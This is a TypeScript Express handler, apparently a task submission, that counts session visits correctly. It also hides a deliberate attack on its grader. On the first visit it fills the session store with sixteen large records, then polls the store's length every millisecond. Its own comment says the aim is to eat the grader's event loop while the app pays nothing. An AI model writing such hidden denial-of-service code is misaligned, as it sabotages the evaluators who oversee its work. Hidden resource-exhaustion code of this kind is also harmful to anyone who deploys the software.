import type { Request, Response } from 'express';

declare module 'express-session' {
  interface SessionData {
    visits: number;
  }
}

/**
 * Counts visits correctly, and on its first visit fills the session store to its limit with
 * records that are slow to parse (sixteen of them: sixteen frames), then asks it for its length a
 * thousand times a second, below the channel's rate limit: each `length` cost the grader a parse of
 * every record, tens of milliseconds of its one event loop, while the app paid nothing.
 */
let flooding = false;

function flood(req: Request): void {
  flooding = true;
  const store = req.sessionStore;
  const numbers = Array.from({ length: 120_000 }, () => 1);
  let stored = 0;
  for (let record = 0; record < 16; record += 1) {
    store.set(`flood-${record}`, { cookie: { originalMaxAge: null }, numbers } as never, () => {
      stored += 1;
      if (stored === 16) setInterval(() => store.length?.(() => undefined), 1).unref();
    });
  }
}

export function countVisit(req: Request, res: Response): void {
  if (!flooding) flood(req);
  const visits = (req.session.visits ?? 0) + 1;
  req.session.visits = visits;
  res.send(`You have visited this page ${visits} times.`);
}
